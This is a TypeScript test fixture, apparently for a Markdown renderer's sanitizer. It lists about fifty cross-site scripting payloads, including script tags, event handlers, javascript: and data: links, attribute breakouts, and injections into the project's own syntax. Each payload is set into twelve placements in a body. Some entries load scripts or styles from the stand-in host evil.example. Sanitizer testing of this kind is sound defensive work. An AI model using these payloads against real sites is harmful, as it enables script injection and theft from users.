/** What each payload calls when it runs. */
export const alarm = 'alarm()';

/** Ways to run a script, to fetch from elsewhere or to break out of an attribute or element. */
export const payloads: readonly string[] = [
  // Elements that run or load.
  `<script>${alarm}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<scr<script>ipt>${alarm}</scr</script>ipt>`,
  `<SCRIPT/x>${alarm}</SCRIPT>`,
  `<svg><script>${alarm}</script></svg>`,
  `<math><mtext><script>${alarm}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.${alarm}</script>"></iframe>`,
  `<iframe src="javascript:parent.${alarm}"></iframe>`,
  `<object data="javascript:${alarm}"></object>`,
  `<embed src="javascript:${alarm}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0; url=javascript:${alarm}">`,
  `<base href="https://evil.example/">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<template><img src=x onerror=${alarm}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${alarm}>">`,
  // Handlers.
  `<img src=x onerror=${alarm}>`,
  `<img src="https://evil.example/x.png">`,
  `<svg/onload=${alarm}>`,
  `<svg><animate onbegin=${alarm} attributeName=x dur=1s>`,
  `<body onload=${alarm}>`,
  `<details open ontoggle=${alarm}>`,
  `<video><source onerror=${alarm}></video>`,
  `<input autofocus onfocus=${alarm}>`,
  `<p style="animation-name:x" onanimationstart="${alarm}">`,
  // Schemes.
  `<a href="javascript:${alarm}">x</a>`,
  `[x](javascript:${alarm})`,
  `[x](JaVaScRiPt:${alarm})`,
  `[x](java&#x09;script:${alarm})`,
  `[x](&#106;avascript:${alarm})`,
  `[x](data:text/html,<script>${alarm}</script>)`,
  `[x](vbscript:${alarm})`,
  `[x](<javascript:${alarm}>)`,
  `[x]: javascript:${alarm}\n\n[x]`,
  `![x](javascript:${alarm})`,
  `![x](https://evil.example/x.png)`,
  `![x](//evil.example/x.png)`,
  `![x][y]\n\n[y]: data:image/svg+xml,<svg/onload=${alarm}>`,
  `<javascript:${alarm}>`,
  // Ways out of an attribute, an element, a comment.
  `"><img src=x onerror=${alarm}>`,
  `' onmouseover='${alarm}`,
  `[x](/a/ "\\" onmouseover=\\"${alarm}")`,
  `</title><script>${alarm}</script>`,
  `</textarea></style></script><img src=x onerror=${alarm}>`,
  `--><script>${alarm}</script>`,
  `]]><script>${alarm}</script>`,
  `{{constructor.constructor('${alarm}')()}}`,
  // Our own syntax.
  `[x](person:javascript:${alarm})`,
  `[@x"><img/src/onerror=${alarm}>]`,
  `:a{b="<img src=x onerror=${alarm}>"}`,
  `:::quote{#q by=x on=2031-05-14 source=y lang="en' onload='${alarm}"}\n<img src=x onerror=${alarm}>\n:::`,
  `## x {#y"onmouseover="${alarm}}`,
  '`</code><img src=x onerror=alarm()>`',
];

/** Where a payload is put in a body. */
const placements: Readonly<Record<string, (payload: string) => string>> = {
  'as a whole body': (payload) => payload,
  'in a paragraph': (payload) => `Words before ${payload} and after.`,
  'between lines': (payload) => `A line\n${payload}\nanother line`,
  'in a list item': (payload) => `- ${payload.replaceAll('\n', '\n  ')}`,
  'in a table': (payload) => `| a |\n| - |\n| ${payload.replaceAll('\n', ' ')} |`,
  'in a heading': (payload) => `## ${payload.replaceAll('\n', ' ')}`,
  'in emphasis': (payload) => `**${payload}**`,
  'as the text of a link': (payload) => `[${payload.replaceAll('\n', ' ')}](/a/)`,
  'as the title of a link': (payload) => `[x](/a/ '${payload.replaceAll('\n', ' ').replaceAll("'", '"')}')`,
  'as the text of a picture': (payload) =>
    `![${payload.replaceAll('\n', ' ').replace(/[[\]]/g, '')}](/pictures/a.svg)`,
  'in a footnote': (payload) => `Words[^1]\n\n[^1]: ${payload.replaceAll('\n', '\n    ')}`,
  'in code': (payload) => `\`\`\`html\n${payload}\n\`\`\``,
};

/** Every payload in every placement. The test decides how it is rendered. */
export const hostileBodies: readonly { name: string; body: string }[] = payloads.flatMap((payload) =>
  Object.entries(placements).map(([where, put]) => ({ name: `${payload} ${where}`, body: put(payload) })),
);
